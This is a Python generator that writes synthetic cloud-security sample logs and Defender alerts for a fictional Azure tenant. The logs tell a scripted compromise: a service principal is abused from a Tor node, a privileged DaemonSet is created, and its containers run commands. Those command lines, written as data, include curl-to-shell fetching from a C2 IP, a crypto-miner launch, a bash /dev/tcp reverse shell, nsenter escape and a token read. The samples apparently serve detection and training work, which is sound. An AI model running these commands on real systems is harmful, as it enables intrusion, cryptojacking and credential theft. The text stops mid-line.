#!/usr/bin/env python3
"""tools/make-samples.py -- writes the sample data in samples/data/.

Deterministic (fixed seed, no clock): running it again gives the same bytes,
so the generated files are committed and diffs show real changes.

The data tells one attack story amid ordinary background activity, in March
2026, in the Contoso tenant (subscription 7c0f2e4a-..., AKS cluster aks-prod):

  2026-03-10 02:1x  the credential of the service principal sp-ci-deploy,
                    normally used from the Azure DevOps agents (20.42.x.x,
                    AzureCLI / Terraform user agents), is used from a Tor exit
                    node 185.220.101.47 with python-requests: it lists
                    resources, grants Owner to a new principal, lists the keys
                    of storage account custdata and fetches the cluster admin
                    credential of aks-prod.
  02:3x             through the Kubernetes API (same IP) it creates a
                    cluster-admin ClusterRoleBinding and a privileged DaemonSet
                    "node-agent-x" in kube-system (hostPID, / mounted), then
                    execs into one of its pods.
  02:4x .. 03:xx    in the DaemonSet's containers: curl | sh download-and-
                    execute of k.sh from 45.137.21.9, a crypto-miner
                    (kdevtmpfsi, stratum+tcp), a bash reverse shell to
                    45.137.21.9:4444, nsenter onto the host, a read of the
                    service-account token.
  02:2x .. 04:xx    Defender for Cloud (ProductName "Azure Security Center")
                    alerts on the same resources.

Background: ARM reads and deployments by people and pipelines, Kubernetes
audit noise, AWS CloudTrail and GCP audit records, ordinary container
processes on AKS, EKS and GKE, and unrelated alerts (brute force, Sentinel
scheduled rules, some AWS/GCP Defender alerts).

Usage: python3 tools/make-samples.py [outdir]   (default samples/data)
"""
import json
import os
import random
import sys
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20260310
rnd = random.Random(SEED)

TENANT = "4b2462a4-bbee-495a-a0e1-f23ae524cc9c"
SUB = "7c0f2e4a-1d3b-4c55-9e8f-2a6b1c9d0e11"
SUBP = "/subscriptions/" + SUB
AKS = SUBP + "/resourceGroups/aks-rg/providers/Microsoft.ContainerService/managedClusters/aks-prod"
STORAGE = SUBP + "/resourceGroups/data-rg/providers/Microsoft.Storage/storageAccounts/custdata"
LOGS = SUBP + "/resourceGroups/data-rg/providers/Microsoft.Storage/storageAccounts/prodlogs"
KV = SUBP + "/resourceGroups/prod-rg/providers/Microsoft.KeyVault/vaults/kv-prod"
VMS = [SUBP + "/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/" + n
       for n in ("web-01", "web-02", "jump-01")]
ROLE_ASSIGN = SUBP + "/providers/Microsoft.Authorization/roleAssignments/"
EKS = "arn:aws:eks:eu-west-1:111122223333:cluster/shop-eks"
GKE = "//container.googleapis.com/projects/example-prod-123/zones/europe-west3-a/clusters/gke-main"

SP_APPID = "3c8f5b2e-6a1d-4f7e-9b0c-2d4e6f8a1b3c"
SP_OID = "9e1d7c3b-5a2f-4e8d-b6c1-0f3a5d7e9b2c"
SP_NAME = "sp-ci-deploy"
ROGUE_OID = "d41f8a6c-2b7e-4c3d-9a5f-6e1b0c8d7a24"
TOR_IP = "185.220.101.47"
C2_IP = "45.137.21.9"
POOL = "pool.minexmr.example:4444"
DEVOPS_IPS = ["20.42.5.%d" % i for i in (17, 23, 41, 88)]
USERS = {"alice@contoso.com": ("0b8e6f2c-5a41-4b8e-9d3c-8a7f6e5d4c3b", "198.51.100.23"),
         "bob@contoso.com": ("6a2c9e4f-1b3d-4f5a-8c7e-2d9b0a1c3e5f", "198.51.100.61"),
         "carol@contoso.com": ("f3b1d5e7-9a2c-4e6f-8b0d-1c3e5a7b9d2f", "192.0.2.130")}

ATTACK_DAY = datetime(2026, 3, 10, tzinfo=timezone.utc)
MONTH = datetime(2026, 3, 1, tzinfo=timezone.utc)


def guid():
    return str(uuid.UUID(int=rnd.getrandbits(128), version=4))


def hexid(n):
    return "%0*x" % (n, rnd.getrandbits(4 * n))


def ts(t):
    """Kusto's datetime text: 7-digit fraction, Z."""
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%07d" % (t.microsecond * 10) + "Z"


def at(h, m, s=0, ms=0):
    return ATTACK_DAY + timedelta(hours=h, minutes=m, seconds=s, milliseconds=ms)


def background_time():
    """A working-hours moment in March 1-20 (some nights too)."""
    day = rnd.randrange(0, 20)
    hour = rnd.randrange(7, 19) if rnd.random() < 0.85 else rnd.randrange(0, 24)
    return MONTH + timedelta(days=day, hours=hour, minutes=rnd.randrange(60),
                             seconds=rnd.randrange(60), milliseconds=rnd.randrange(1000))


def compact(v):
    return json.dumps(v, separators=(",", ":"))


# --- CloudAuditEvents --------------------------------------------------------

def arm_event(t, op, rid, caller, oid, ip, ua, action, status="Succeeded", country="US",
              city="", isp="Microsoft Corporation", anon=False, idtype="app", extra=None):
    rg = rid.split("/resourceGroups/")[1].split("/")[0] if "/resourceGroups/" in rid else ""
    raw = {"operationName": op, "status": status, "caller": caller, "principalOid": oid,
           "principalType": "ServicePrincipal" if idtype == "app" else "User",
           "subscriptionId": SUB, "resourceGroupName": rg, "correlationId": guid(),
           "httpRequest": {"clientIpAddress": ip,
                           "method": {"Read": "GET", "Create": "PUT", "Update": "PUT",
                                      "Delete": "DELETE"}.get(action, "POST")},
           "claims": {"idtyp": idtype, "appid": SP_APPID if caller == SP_APPID else ""}}
    if extra:
        raw["properties"] = extra
    af = {"AccountObjectId": oid}
    if idtype == "app":
        af["AccountDisplayName"] = SP_NAME if caller == SP_APPID else caller
    else:
        af["AccountUpn"] = caller
    return {"Timestamp": ts(t), "ReportId": guid(), "DataSource": "Azure", "ActionType": action,
            "OperationName": op, "ResourceId": rid, "IPAddress": ip, "IsAnonymousProxy": anon,
            "CountryCode": country, "City": city, "Isp": isp, "UserAgent": ua,
            "RawEventData": raw, "AdditionalFields": af}


def k8s_event(t, verb, resource, ns, name, user, groups, ip, ua, code=200, request=None,
              subresource=None):
    ref = {"resource": resource, "namespace": ns, "name": name,
           "apiGroup": "apps" if resource in ("daemonsets", "deployments") else
           ("rbac.authorization.k8s.io" if "role" in resource else ""), "apiVersion": "v1"}
    if not ns:
        del ref["namespace"]
    if subresource:
        ref["subresource"] = subresource
    raw = {"kind": "Event", "apiVersion": "audit.k8s.io/v1",
           "level": "RequestResponse" if request else "Metadata", "auditID": guid(),
           "stage": "ResponseComplete", "verb": verb,
           "user": {"username": user, "groups": groups}, "sourceIPs": [ip],
           "userAgent": ua, "objectRef": ref, "responseStatus": {"code": code},
           "requestReceivedTimestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}
    if request:
        raw["requestObject"] = request
    action = {"create": "Create", "update": "Update", "patch": "Update",
              "delete": "Delete"}.get(verb, "Read")
    return {"Timestamp": ts(t), "ReportId": guid(), "DataSource": "Kubernetes Audit",
            "ActionType": action, "OperationName": verb, "ResourceId": AKS, "IPAddress": ip,
            "IsAnonymousProxy": ip == TOR_IP, "CountryCode": "DE" if ip == TOR_IP else "",
            "City": "", "Isp": "Tor exit relay" if ip == TOR_IP else "", "UserAgent": ua,
            "RawEventData": raw, "AdditionalFields": {}}


def audit_background():
    rows = []
    reads = ["Microsoft.Resources/subscriptions/resourceGroups/read",
             "Microsoft.Compute/virtualMachines/read", "Microsoft.Storage/storageAccounts/read",
             "Microsoft.ContainerService/managedClusters/read",
             "Microsoft.KeyVault/vaults/read", "Microsoft.Insights/diagnosticSettings/read"]
    targets = [AKS, LOGS, STORAGE, KV] + VMS
    for _ in range(120):  # the pipeline: deployments and reads from Azure DevOps
        t = background_time()
        rid = rnd.choice(targets)
        if rnd.random() < 0.6:
            op, act = rnd.choice(reads), "Read"
        else:
            op = rnd.choice(["Microsoft.Resources/deployments/write",
                             "Microsoft.ContainerService/managedClusters/write",
                             "Microsoft.Compute/virtualMachines/write",
                             "Microsoft.Storage/storageAccounts/write"])
            act = "Update"
        rows.append(arm_event(t, op, rid, SP_APPID, SP_OID, rnd.choice(DEVOPS_IPS),
                              rnd.choice(["AzureCLI/2.57.0 (DEB) azsdk-python-core/1.29.7",
                                          "HashiCorp Terraform/1.7.4 (+https://www.terraform.io)"
                                          ]),
                              act, country="US", city="San Antonio"))
    for day in (3, 9, 16, 18):  # the log shipper rotates its storage key (benign listKeys)
        t = MONTH + timedelta(days=day - 1, hours=6, minutes=rnd.randrange(60))
        rows.append(arm_event(t, "Microsoft.Storage/storageAccounts/listKeys/action", LOGS,
                              SP_APPID, SP_OID, rnd.choice(DEVOPS_IPS),
                              "AzureCLI/2.57.0 (DEB) azsdk-python-core/1.29.7", "Other",
                              country="US", city="San Antonio"))
    for _ in range(70):  # people in the portal
        t = background_time()
        user = rnd.choice(sorted(USERS))
        oid, ip = USERS[user]
        op = rnd.choice(reads + ["Microsoft.Compute/virtualMachines/restart/action",
                                 "Microsoft.Storage/storageAccounts/blobServices/read"])
        rows.append(arm_event(t, op, rnd.choice(targets), user, oid, ip,
                              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/122.0",
                              "Other" if "/action" in op else "Read", country="NL",
                              city="Amsterdam", isp="Example Telecom", idtype="user"))
    for _ in range(60):  # Kubernetes control-plane noise
        t = background_time()
        who = rnd.choice([("system:serviceaccount:kube-system:coredns", "10.244.0.12"),
                          ("system:serviceaccount:payments:builder", "10.244.1.17"),
                          ("system:node:aks-nodepool1-31518240-vmss000001", "10.224.0.5"),
                          ("alice@contoso.com", "198.51.100.23")])
        verb = rnd.choice(["get", "list", "watch", "get", "update"])
        res = rnd.choice(["pods", "configmaps", "endpoints", "leases", "deployments"])
        ns = rnd.choice(["kube-system", "payments", "web"])
        rows.append(k8s_event(t, verb, res, ns, "" if verb in ("list", "watch") else "api",
                              who[0], ["system:authenticated"], who[1],
                              "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
                              if "@" in who[0] else "kube-controller/v1.29.2"))
    for _ in range(30):  # AWS CloudTrail
        t = background_time()
        ev = rnd.choice([("DescribeInstances", "ec2", "Read"), ("GetObject", "s3", "Read"),
                         ("AssumeRole", "sts", "Other"), ("PutObject", "s3", "Create"),
                         ("ListClusters", "eks", "Read")])
        ip = rnd.choice(["203.0.113.10", "203.0.113.11"])
        rows.append({"Timestamp": ts(t), "ReportId": guid(), "DataSource": "AWS",
                     "ActionType": ev[2], "OperationName": ev[0],
                     "ResourceId": EKS if ev[1] == "eks" else
                     "arn:aws:s3:::shop-assets" if ev[1] == "s3" else
                     "arn:aws:ec2:eu-west-1:111122223333:instance/i-0a1b2c3d4e5f60718",
                     "IPAddress": ip, "IsAnonymousProxy": False, "CountryCode": "IE",
                     "City": "Dublin", "Isp": "Amazon.com", "UserAgent": "aws-cli/2.15.0",
                     "RawEventData": {"eventVersion": "1.09",
                                      "eventSource": ev[1] + ".amazonaws.com",
                                      "eventName": ev[0], "awsRegion": "eu-west-1",
                                      "sourceIPAddress": ip, "readOnly": ev[2] == "Read",
                                      "userIdentity": {"type": "IAMUser", "userName": "ci-bot",
                                                       "accountId": "111122223333"},
                                      "eventType": "AwsApiCall"},
                     "AdditionalFields": {}})
    for _ in range(25):  # GCP audit logs
        t = background_time()
        m = rnd.choice(["storage.objects.get", "v1.compute.instances.list",
                        "io.k8s.core.v1.pods.list", "SetIamPolicy"])
        rows.append({"Timestamp": ts(t), "ReportId": guid(), "DataSource": "GCP",
                     "ActionType": "Update" if m == "SetIamPolicy" else "Read",
                     "OperationName": m,
                     "ResourceId": GKE if "k8s" in m else
                     "//cloudresourcemanager.googleapis.com/projects/example-prod-123",
                     "IPAddress": "192.0.2.44", "IsAnonymousProxy": False,
                     "CountryCode": "DE", "City": "Frankfurt am Main",
                     "Isp": "Example Telecom", "UserAgent": "google-cloud-sdk gcloud/465.0.0",
                     "RawEventData": {"protoPayload": {
                         "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                         "methodName": m, "authenticationInfo": {"principalEmail":
                                                                 "ops@example.com"},
                         "requestMetadata": {"callerIp": "192.0.2.44"}},
                         "severity": "NOTICE" if m == "SetIamPolicy" else "INFO"},
                     "AdditionalFields": {}})
    return rows


PRIV_DS = {"kind": "DaemonSet", "apiVersion": "apps/v1",
           "metadata": {"name": "node-agent-x", "namespace": "kube-system"},
           "spec": {"template": {"spec": {
               "hostPID": True, "hostNetwork": True,
               "containers": [{"name": "agent", "image": "docker.io/library/alpine:3.19",
                               "command": ["sh", "-c", "sleep infinity"],
                               "securityContext": {"privileged": True},
                               "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
               "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}}}


def audit_attack():
    ua = "python-requests/2.31.0"
    tor = dict(country="DE", city="", isp="Tor exit relay", anon=True)
    steps = [
        (at(2, 13, 44), "Microsoft.Resources/subscriptions/resourceGroups/read", SUBP, "Read"),
        (at(2, 14, 2), "Microsoft.Authorization/roleAssignments/read", SUBP, "Read"),
        (at(2, 15, 30), "Microsoft.ContainerService/managedClusters/read", AKS, "Read"),
        (at(2, 16, 11), "Microsoft.Storage/storageAccounts/read", STORAGE, "Read"),
        (at(2, 20, 5), "Microsoft.Authorization/roleAssignments/write",
         ROLE_ASSIGN + "b7e4c1d9-3f2a-4b8e-a6d0-9c5e7f1a3b2d", "Create"),
        (at(2, 24, 17), "Microsoft.Storage/storageAccounts/listKeys/action", STORAGE, "Other"),
        (at(2, 26, 40), "Microsoft.KeyVault/vaults/read", KV, "Read"),
        (at(2, 31, 9), "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/"
         "action", AKS, "Other"),
    ]
    rows = []
    for t, op, rid, act in steps:
        extra = None
        if "roleAssignments/write" in op:
            extra = {"requestbody": compact({"Id": "b7e4c1d9-3f2a-4b8e-a6d0-9c5e7f1a3b2d",
                                             "Properties": {
                                                 "PrincipalId": ROGUE_OID,
                                                 "PrincipalType": "ServicePrincipal",
                                                 "RoleDefinitionId": "/providers/Microsoft."
                                                 "Authorization/roleDefinitions/"
                                                 "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
                                                 "Scope": SUBP}}),
                     "roleName": "Owner"}
        rows.append(arm_event(t, op, rid, SP_APPID, SP_OID, TOR_IP, ua, act, extra=extra, **tor))
    kua = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
    admin = "clusterAdmin_aks-rg_aks-prod"
    grp = ["system:masters", "system:authenticated"]
    rows.append(k8s_event(at(2, 33, 2), "list", "secrets", "", "", admin, grp, TOR_IP, kua))
    rows.append(k8s_event(at(2, 34, 15), "create", "clusterrolebindings", "", "node-agent-x",
                          admin, grp, TOR_IP, kua, code=201,
                          request={"kind": "ClusterRoleBinding",
                                   "metadata": {"name": "node-agent-x"},
                                   "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                                   "subjects": [{"kind": "ServiceAccount", "name": "default",
                                                 "namespace": "kube-system"}]}))
    rows.append(k8s_event(at(2, 35, 48), "create", "daemonsets", "kube-system", "node-agent-x",
                          admin, grp, TOR_IP, kua, code=201, request=PRIV_DS))
    rows.append(k8s_event(at(2, 38, 20), "create", "pods", "kube-system",
                          "node-agent-x-7fk2p", admin, grp, TOR_IP, kua, code=101,
                          subresource="exec"))
    return rows


# --- CloudProcessEvents ------------------------------------------------------

def proc(t, cluster, ns, pod, resource, container, cid, image, path, cmd, pid, ppid, parent,
         cwd="/", account="root", af=None):
    name = path.rsplit("/", 1)[-1]
    return {"Timestamp": ts(t + timedelta(milliseconds=100)),
            "AzureResourceId": cluster if cluster.startswith("/subscriptions") else "",
            "AwsResourceName": cluster if cluster.startswith("arn:") else "",
            "GcpFullResourceName": cluster if cluster.startswith("//") else "",
            "ContainerImageName": image, "KubernetesNamespace": ns, "KubernetesPodName": pod,
            "KubernetesResource": resource, "ContainerName": container, "ContainerId": cid,
            "ActionType": "ProcessCreated", "FileName": name, "FolderPath": path,
            "ProcessId": pid, "ProcessName": name, "ParentProcessName": parent,
            "ParentProcessId": str(ppid), "ProcessCommandLine": cmd,
            "ProcessCreationTime": ts(t), "ProcessCurrentWorkingDirectory": cwd,
            "AccountName": account, "LogonId": 0, "InitiatingProcessId": str(ppid),
            "AdditionalFields": compact(af or {"UpperLayer": "False", "Memfd": "False"})}


WORKLOADS = [
    (AKS, "payments", "api-7d9f8b6c5-x2k4q", "payments/deployment/api", "api",
     "contoso.azurecr.io/payments/api:1.4.2",
     [("/usr/local/bin/node", "node server.js", "containerd-shim", "/app", "node"),
      ("/bin/sh", "sh -c wget -qO- http://localhost:8080/healthz", "node", "/app", "node"),
      ("/usr/bin/wget", "wget -qO- http://localhost:8080/healthz", "sh", "/app", "node")]),
    (AKS, "web", "frontend-5c6d7e8f9-abcde", "web/deployment/frontend", "nginx",
     "contoso.azurecr.io/web/frontend:2.0.1",
     [("/usr/sbin/nginx", "nginx -g daemon off;", "containerd-shim", "/", "root"),
      ("/bin/sh", "/bin/sh -c nginx -s reload", "sh", "/", "root")]),
    (AKS, "kube-system", "coredns-6d8c4cb4d-9wq7z", "kube-system/deployment/coredns",
     "coredns", "mcr.microsoft.com/oss/kubernetes/coredns:v1.11.1",
     [("/coredns", "/coredns -conf /etc/coredns/Corefile", "containerd-shim", "/", "root")]),
    (AKS, "payments", "worker-6b7c8d9e0-q1w2e", "payments/deployment/worker", "worker",
     "contoso.azurecr.io/payments/worker:1.4.2",
     [("/usr/local/bin/python3.12", "python3 -m worker --queue payments", "containerd-shim",
       "/srv", "app"),
      ("/usr/bin/curl", "curl -s https://api.stripe.example/v1/charges", "python3", "/srv",
       "app")]),
    (EKS, "shop", "cart-84f9c7d6b-zz9x8", "shop/deployment/cart", "cart",
     "111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/cart:3.2.0",
     [("/usr/bin/java", "java -jar /app/cart.jar", "containerd-shim", "/app", "app")]),
    (GKE, "web", "frontend-5c6d7e8f9-abcde", "web/deployment/frontend", "frontend",
     "europe-docker.pkg.dev/example-prod-123/web/frontend:2.0.0",
     [("/usr/local/bin/node", "node server.js", "containerd-shim", "/srv", "node"),
      ("/bin/sh", "sh -c node scripts/warm-cache.js", "node", "/srv", "node")]),
]


def process_background():
    rows = []
    cids = {w[2] + w[0]: hexid(64) for w in WORKLOADS}
    for _ in range(300):
        w = rnd.choice(WORKLOADS)
        path, cmd, parent, cwd, acct = rnd.choice(w[6])
        pid = rnd.randrange(2, 32000)
        rows.append(proc(background_time(), w[0], w[1], w[2], w[3], w[4], cids[w[2] + w[0]],
                         w[5], path, cmd, pid, rnd.randrange(1, pid), parent, cwd, acct))
    # an admin debugging with kubectl exec: benign but shell-like
    for i, (path, cmd) in enumerate([("/bin/bash", "bash"), ("/bin/ps", "ps aux"),
                                     ("/bin/cat", "cat /etc/resolv.conf")]):
        rows.append(proc(datetime(2026, 3, 5, 14, 2, 10 * i, tzinfo=timezone.utc), AKS,
                         "payments", "api-7d9f8b6c5-x2k4q", "payments/deployment/api", "api",
                         cids["api-7d9f8b6c5-x2k4q" + AKS],
                         "contoso.azurecr.io/payments/api:1.4.2", path, cmd, 400 + i,
                         400 if i else 1, "bash" if i else "runc", "/app"))
    return rows


def process_attack():
    img = "docker.io/library/alpine:3.19"
    res = "kube-system/daemonset/node-agent-x"
    pods = [("node-agent-x-7fk2p", hexid(64)), ("node-agent-x-m4q9t", hexid(64)),
            ("node-agent-x-zc81d", hexid(64))]
    rows = []
    # the exec'd shell in the first pod does the hands-on work
    pod, cid = pods[0]
    up = {"UpperLayer": "True", "Memfd": "False"}
    chain = [
        (at(2, 38, 21), "/bin/sh", "sh", 1, 311, "runc", None),
        (at(2, 38, 40), "/usr/bin/id", "id", 311, 312, "sh", None),
        (at(2, 39, 5), "/bin/cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
         311, 313, "sh", None),
        (at(2, 40, 12), "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", 311, 320, "sh", None),
    ]
    for t, path, cmd, ppid, pid, parent, af in chain:
        rows.append(proc(t, AKS, "kube-system", pod, res, "agent", cid, img, path, cmd, pid,
                         ppid, parent, af=af))
    # each DaemonSet pod runs the dropper, then the miner; one opens a reverse shell
    for k, (pod, cid) in enumerate(pods):
        base = at(2, 42 + 3 * k, 7 * k)
        url = "http://%s/k.sh" % C2_IP
        steps = [
            (0, "/bin/sh", "sh -c curl -fsSL %s | sh" % url, 1, 401, "sleep"),
            (0.2, "/usr/bin/curl", "curl -fsSL " + url, 401, 402, "sh"),
            (1.5, "/bin/sh", "sh", 401, 403, "sh"),
            (3.0, "/usr/bin/wget", "wget -q http://%s/kdevtmpfsi -O /tmp/.k/kdevtmpfsi" % C2_IP,
             403, 404, "sh"),
            (4.1, "/bin/chmod", "chmod +x /tmp/.k/kdevtmpfsi", 403, 405, "sh"),
            (5.0, "/tmp/.k/kdevtmpfsi", "/tmp/.k/kdevtmpfsi -o stratum+tcp://%s -u "
             "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4f"
             "hdUyZijBGUicoD -p x --donate-level 0 -B" % POOL, 403, 406, "sh"),
            (6.0, "/usr/bin/crontab", "crontab -l", 403, 407, "sh"),
        ]
        if k == 1:
            steps.append((9.0, "/bin/bash", "bash -c bash -i >& /dev/tcp/%s/4444 0>&1" % C2_IP,
                          403, 420, "sh"))
        for dt, path, cmd, ppid, pid, parent in steps:
            af = up if path.startswith("/tmp/") else None
            rows.append(proc(base + timedelta(seconds=dt * 10), AKS, "kube-system", pod, res,
                             "agent", cid, img, path, cmd, pid, ppid, parent,
                             cwd="/tmp/.k" if dt >= 4 else "/", af=af))
    # the miner restarts every hour until morning
    for h in range(1, 5):
        for pod, cid in pods:
            rows.append(proc(at(2 + h, 45, rnd.randrange(60)), AKS, "kube-system", pod, res,
                             "agent", cid, img, "/tmp/.k/kdevtmpfsi",
                             "/tmp/.k/kdevtmpfsi -o stratum+tcp://%s -p x -B" % POOL,
                             500 + h, 403, "sh", cwd="/tmp/.k", af=up))
    return rows


# --- SecurityAlert -----------------------------------------------------------

def reverse_ticks(t):
    ticks = int((t - datetime(1, 1, 1, tzinfo=timezone.utc)).total_seconds()) * 10 ** 7
    return 3155378975999999999 - ticks


def asc_alert(t, name, atype, sev, rid, entity, desc, entities, props, tactics, techniques,
              component, status="New", remediation=None, subtech=""):
    vid = "%d_%s" % (reverse_ticks(t), guid())
    sub = rid.split("/")[2] if rid.startswith("/subscriptions/") else SUB
    start = t - timedelta(minutes=rnd.randrange(1, 6))
    gen = t + timedelta(minutes=rnd.randrange(4, 12), seconds=rnd.randrange(60))
    return {"AlertLink": "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderFo"
                         "rData/AlertBlade/alertId/%s/subscriptionId/%s" % (vid, sub),
            "AlertName": name, "AlertSeverity": sev, "AlertType": atype,
            "CompromisedEntity": entity, "ConfidenceLevel": "Unknown", "ConfidenceScore": None,
            "Description": desc, "DisplayName": name, "EndTime": ts(t), "Entities":
            compact(entities), "ExtendedLinks": "", "ExtendedProperties": compact(props),
            "IsIncident": False, "ProcessingEndTime": ts(gen - timedelta(seconds=1)),
            "ProductComponentName": component, "ProductName": "Azure Security Center",
            "ProviderName": "Azure Security Center",
            "RemediationSteps": compact(remediation or ["Review the activity.",
                                                        "Escalate if it is not expected."]),
            "ResourceId": rid, "SourceComputerId": "", "SourceSystem": "Detection",
            "StartTime": ts(start), "Status": status, "SubTechniques": subtech,
            "SystemAlertId": guid(), "Tactics": tactics, "Techniques": compact(techniques),
            "TenantId": TENANT, "TimeGenerated": ts(gen), "Type": "SecurityAlert",
            "VendorName": "Microsoft", "VendorOriginalId": vid, "WorkspaceResourceGroup": "",
            "WorkspaceSubscriptionId": ""}


def ent_resource(i, rid):
    return {"$id": str(i), "ResourceId": rid, "Type": "azure-resource"}


def alerts_attack():
    sp = {"$id": "3", "Name": SP_NAME, "AadUserId": SP_OID, "Type": "account",
          "IsDomainJoined": False}
    tor = {"$id": "4", "Address": TOR_IP, "Location": {"CountryCode": "DE"}, "Type": "ip"}
    c2 = {"$id": "5", "Address": C2_IP, "Type": "ip"}
    rows = [
        asc_alert(at(2, 14, 2), "Azure Resource Manager operation from suspicious IP address",
                  "ARM_OperationFromSuspiciousIP", "Medium", SUBP, SUB,
                  "Microsoft Defender for Resource Manager detected an operation from an IP "
                  "address that has been marked as suspicious in threat intelligence feeds.",
                  [ent_resource(2, SUBP), sp, tor],
                  {"Client IP Address": TOR_IP, "Client Location": "Germany",
                   "Operations": "Microsoft.Resources/subscriptions/resourceGroups/read",
                   "resourceType": "Subscription", "Principal Name": SP_NAME},
                  "Execution", ["T1078"], "Resource Manager", subtech='["T1078.004"]'),
        asc_alert(at(2, 20, 5), "Suspicious invocation of a high-risk 'Privilege Escalation' "
                  "operation by a service principal detected",
                  "ARM_AnomalousServiceOperation.PrivilegeEscalation", "Medium", SUBP, SUB,
                  "A service principal assigned a privileged role from an unusual location.",
                  [ent_resource(2, SUBP), sp, tor],
                  {"Client IP Address": TOR_IP, "Principal Name": SP_NAME,
                   "Operations": "Microsoft.Authorization/roleAssignments/write",
                   "Role Name": "Owner", "resourceType": "Subscription"},
                  "PrivilegeEscalation", ["T1098"], "Resource Manager"),
        asc_alert(at(2, 24, 17), "Suspicious invocation of a high-risk 'Credential Access' "
                  "operation by a service principal detected",
                  "ARM_AnomalousServiceOperation.CredentialAccess", "Medium", STORAGE,
                  "custdata", "A service principal listed storage account keys from an "
                  "unusual location.", [ent_resource(2, STORAGE), sp, tor],
                  {"Client IP Address": TOR_IP, "Principal Name": SP_NAME,
                   "Operations": "Microsoft.Storage/storageAccounts/listKeys/action",
                   "resourceType": "Storage Account"},
                  "CredentialAccess", ["T1552"], "Resource Manager"),
        asc_alert(at(2, 31, 9), "Suspicious invocation of a high-risk 'Credential Access' "
                  "operation by a service principal detected",
                  "ARM_AnomalousServiceOperation.CredentialAccess", "Medium", AKS, "aks-prod",
                  "A service principal requested the admin credential of a Kubernetes "
                  "cluster from an unusual location.", [ent_resource(2, AKS), sp, tor],
                  {"Client IP Address": TOR_IP, "Principal Name": SP_NAME,
                   "Operations": "Microsoft.ContainerService/managedClusters/"
                                 "listClusterAdminCredential/action",
                   "resourceType": "Kubernetes Service"},
                  "CredentialAccess", ["T1552"], "Resource Manager"),
        asc_alert(at(2, 34, 15), "New high privileges role detected", "K8S_HighPrivilegesRole",
                  "Low", AKS, "aks-prod", "A ClusterRoleBinding to cluster-admin was created "
                  "for a service account.",
                  [ent_resource(2, AKS), {"$id": "3", "Name": "node-agent-x",
                                          "Type": "K8s-clusterrolebinding"}],
                  {"RoleBinding": "node-agent-x", "Role": "cluster-admin",
                   "resourceType": "Kubernetes Service"},
                  "Persistence", ["T1098"], "Containers"),
        asc_alert(at(2, 35, 48), "Privileged container detected", "K8S_PrivilegedContainer",
                  "Low", AKS, "aks-prod", "A DaemonSet with a privileged container was created "
                  "in namespace kube-system.",
                  [ent_resource(2, AKS), {"$id": "3", "Namespace": "kube-system",
                                          "Name": "node-agent-x", "Type": "K8s-daemonset"}],
                  {"Namespace": "kube-system", "Workload": "node-agent-x",
                   "Image": "docker.io/library/alpine:3.19", "Client IP Address": TOR_IP,
                   "resourceType": "Kubernetes Service"},
                  "PrivilegeEscalation", ["T1611"], "Containers"),
        asc_alert(at(2, 35, 48), "Container with a sensitive volume mount detected",
                  "K8S_SensitiveMount", "Medium", AKS, "aks-prod",
                  "A container mounts the host root file system.",
                  [ent_resource(2, AKS)], {"Namespace": "kube-system", "Workload": "node-agent-x",
                                           "Mount": "/", "resourceType": "Kubernetes Service"},
                  "PrivilegeEscalation", ["T1611"], "Containers"),
        asc_alert(at(2, 42, 0), "Detected suspicious file download", "K8S.NODE_SuspectDownload",
                  "Medium", AKS, "aks-prod", "A process in a container downloaded a script and "
                  "piped it into a shell.",
                  [ent_resource(2, AKS), c2, {"$id": "6", "CommandLine":
                                              "curl -fsSL http://%s/k.sh" % C2_IP,
                                              "Type": "process"}],
                  {"Suspicious Command Line": "sh -c curl -fsSL http://%s/k.sh | sh" % C2_IP,
                   "Pod": "node-agent-x-7fk2p", "Namespace": "kube-system",
                   "resourceType": "Kubernetes Service"},
                  "Execution", ["T1105", "T1059"], "Containers", subtech='["T1059.004"]'),
        asc_alert(at(2, 42, 50), "Digital currency mining related behavior detected",
                  "K8S.NODE_DigitalCurrencyMining", "High", AKS, "aks-prod",
                  "A process in a container connected to a crypto-currency mining pool.",
                  [ent_resource(2, AKS), {"$id": "3", "Name": "kdevtmpfsi",
                                          "Directory": "/tmp/.k", "Type": "file"}],
                  {"Suspicious Process": "/tmp/.k/kdevtmpfsi", "Mining Pool": POOL,
                   "Pod": "node-agent-x-7fk2p", "Namespace": "kube-system",
                   "resourceType": "Kubernetes Service"},
                  "Impact", ["T1496"], "Containers", status="InProgress"),
        asc_alert(at(2, 46, 37), "Possible reverse shell detected", "K8S.NODE_ReverseShell",
                  "High", AKS, "aks-prod", "A process opened an interactive shell connected "
                  "to a remote host.",
                  [ent_resource(2, AKS), c2],
                  {"Suspicious Command Line": "bash -i >& /dev/tcp/%s/4444 0>&1" % C2_IP,
                   "Remote Address": C2_IP + ":4444", "Pod": "node-agent-x-m4q9t",
                   "Namespace": "kube-system", "resourceType": "Kubernetes Service"},
                  "Execution", ["T1059"], "Containers", status="InProgress"),
        asc_alert(at(2, 40, 12), "Container escape attempt detected", "K8S.NODE_ContainerEscape",
                  "High", AKS, "aks-prod", "nsenter was used to enter the namespaces of the "
                  "host's init process.", [ent_resource(2, AKS)],
                  {"Suspicious Command Line": "nsenter -t 1 -m -u -i -n sh",
                   "Pod": "node-agent-x-7fk2p", "resourceType": "Kubernetes Service"},
                  "PrivilegeEscalation", ["T1611"], "Containers"),
    ]
    for h in (1, 2):  # the miner is noticed again
        rows.append(asc_alert(at(2 + h, 45, 30), "Digital currency mining related behavior "
                              "detected", "K8S.NODE_DigitalCurrencyMining", "High", AKS,
                              "aks-prod", "A process in a container connected to a crypto-"
